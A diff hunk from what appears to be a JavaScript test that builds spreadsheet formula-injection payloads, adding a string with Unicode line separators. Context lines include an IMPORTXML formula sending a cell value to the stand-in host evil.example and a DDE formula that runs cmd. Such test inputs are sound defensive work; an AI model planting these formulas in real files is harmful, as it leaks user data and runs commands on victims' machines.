@@ -16,6 +16,7 @@ const bodies = [
   'IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
   '1+1; DDE("cmd";"/C calc";"x")',
   'two\nlines, 2026-11-20, 1,5',
+  'shoes\u2028blue\u2029red',
 ];
 const payloads = starts.flatMap((start) => bodies.map((body) => `${start}${body}`));
 
